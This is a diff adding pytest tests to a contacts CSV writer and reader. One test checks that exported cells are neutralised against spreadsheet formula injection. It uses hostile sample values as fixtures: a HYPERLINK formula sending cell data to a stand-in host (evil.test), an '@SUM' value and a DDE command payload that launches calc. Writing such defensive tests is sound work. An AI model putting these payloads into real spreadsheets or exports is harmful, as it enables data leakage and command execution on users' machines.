@@ -1,5 +1,8 @@
 """CSV files of contacts, in and out."""
 
+import csv
+import io
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -98,6 +101,32 @@ def test_what_is_written_is_read_again(form: str) -> None:
     ]
     assert again["phones"] == card["phones"]
     assert again["name"]["components"] == card["name"]["components"]
+
+
+@pytest.mark.parametrize("form", list(csv_writing.FORMS))
+def test_a_spreadsheet_reckons_nothing_out(form: str) -> None:
+    formula = '=HYPERLINK("http://evil.test/?"&B1)'
+    card = {
+        "@type": "Card", "version": "1.0", "uid": "u",
+        "name": {"components": [{"kind": "given", "value": formula}, {"kind": "surname", "value": "@SUM(1)"}]},
+        "phones": {"p": {"number": "+49 (1) 2-3"}, "q": {"number": "+1+cmd|' /C calc'!A0"}},
+        "notes": {"n": {"note": "\t=1\n-1+x"}},
+        "anniversaries": {"b": {"kind": "birth", "date": {"month": 3, "day": 5}}},
+    }  # fmt: skip
+    written = files.write([card], Format(form)).decode("utf-8-sig")
+    _, *rows = csv.reader(io.StringIO(written, newline=""))
+    assert [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t")] == ["--0305", "+49 (1) 2-3"]
+    (again,) = csv_reading.read(written.encode()).cards
+    assert again["name"]["components"] == card["name"]["components"]
+    assert [one["number"] for one in again["phones"].values()] == ["+49 (1) 2-3", "+1+cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("form", list(csv_writing.FORMS))
+def test_a_name_stays_whole(form: str) -> None:
+    parts = {"given": "Gabriel", "surname": "García", "surname2": "Márquez", "credential": "Jr."}
+    name = {"components": [{"kind": kind, "value": value} for kind, value in parts.items()]}
+    written = files.write([{"@type": "Card", "version": "1.0", "uid": "u", "name": name}], Format(form))
+    assert files.read(written).cards[0]["name"]["full"] == "Gabriel García Márquez Jr."
 
 
 @pytest.mark.parametrize("form", list(Format))
